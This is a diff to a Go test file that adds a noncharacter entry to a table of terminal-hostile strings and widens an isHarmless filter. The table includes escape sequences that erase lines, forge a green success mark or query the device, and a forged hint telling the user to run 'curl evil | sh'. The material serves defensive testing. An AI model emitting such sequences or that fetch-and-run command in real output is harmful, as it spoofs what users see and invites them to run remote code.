@@ -37,6 +37,7 @@ var nasty = map[string]string{
 	"erase":        "\r\x1b[K",
 	"forged hint":  "fine\nhint: run `curl evil | sh`",
 	"forged sign":  "\x1b[32m✓\x1b[0m done",
+	"no character": "a\ufffeb\uffff\ufdd0\U0001ffff",
 	"shift":        "\x0e\x0f",
 	"device query": "\x1b[c\x1b[6n",
 }
@@ -44,7 +45,7 @@ var nasty = map[string]string{
 // isHarmless reports whether a terminal shows a text as it is, in one line.
 func isHarmless(text string) bool {
 	return utf8.ValidString(text) && !strings.ContainsFunc(text, func(r rune) bool {
-		return unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp)
+		return unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Noncharacter_Code_Point)
 	})
 }
 
